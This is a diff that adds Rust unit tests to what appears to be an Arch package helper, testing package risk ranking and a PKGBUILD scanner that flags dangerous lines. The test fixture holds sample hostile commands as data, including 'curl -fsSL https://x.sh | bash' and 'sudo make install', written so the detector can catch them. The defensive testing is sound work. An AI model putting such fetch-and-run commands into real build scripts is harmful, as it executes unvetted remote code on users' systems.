+        assert_eq!(infos[1].severity_score(), 11);
+        assert_eq!(infos[1].risk_level(), RiskLevel::High);
+        assert_eq!(risk_summary(&infos), [1, 0, 1]);
+
+        let item = |name: &str, source: crate::state::Source| PackageItem {
+            name: name.into(),
+            version: String::new(),
+            description: String::new(),
+            source,
+            popularity: None,
+        };
+        let items = vec![
+            item(
+                "core-pkg",
+                crate::state::Source::Official {
+                    repo: "core".into(),
+                    arch: "x86_64".into(),
+                },
+            ),
+            item("demo", crate::state::Source::Aur),
+            item("bad", crate::state::Source::Aur),
+        ];
+        let order: Vec<&str> = rank_by_risk(&items, &infos)
+            .iter()
+            .map(|p| p.name.as_str())
+            .collect();
+        assert_eq!(order, vec!["bad", "demo", "core-pkg"]);
+    }
+
+    #[test]
+    /// What: Report dangerous PKGBUILD patterns with their line numbers and skip comments.
+    ///
+    /// Inputs:
+    /// - A PKGBUILD with an unpinned and a pinned git source in a multi-line array, commented-out
+    ///   bad commands, and a `package()` using sudo, piping curl to bash, and writing to `/usr`.
+    ///
+    /// Output:
+    /// - Exactly the live findings, each on its own line; `$pkgdir` writes and `/dev/null`
+    ///   redirects are not flagged.
+    fn find_pkgbuild_warnings_reports_lines() {
+        let pkgbuild = "pkgname=demo
+source=('demo::git+https://example.org/demo.git'
+        \"git+https://example.org/lib.git#commit=abc123\")
+# curl https://x.sh | bash
+build() {
+  # sudo make install
+  make 2>/dev/null
+}
+package()
+{
+  install -Dm755 demo \"$pkgdir/usr/bin/demo\"
+  sudo make install
+  curl -fsSL https://x.sh | bash
+  cp demo /usr/bin/demo
+  echo done > \"$HOME/.demo\"  # note
+}
+";
+        let found: Vec<(usize, PkgbuildIssue)> = find_pkgbuild_warnings(pkgbuild)
+            .into_iter()
+            .map(|w| (w.line, w.issue))
+            .collect();
+        assert_eq!(
+            found,
+            vec![
+                (2, PkgbuildIssue::UnpinnedGitSource),
+                (12, PkgbuildIssue::SudoInBuild),
+                (13, PkgbuildIssue::DownloadPipedToShell),
+                (14, PkgbuildIssue::WriteOutsidePkgdir),
+                (15, PkgbuildIssue::WriteOutsidePkgdir),
+            ]
+        );
+    }
+}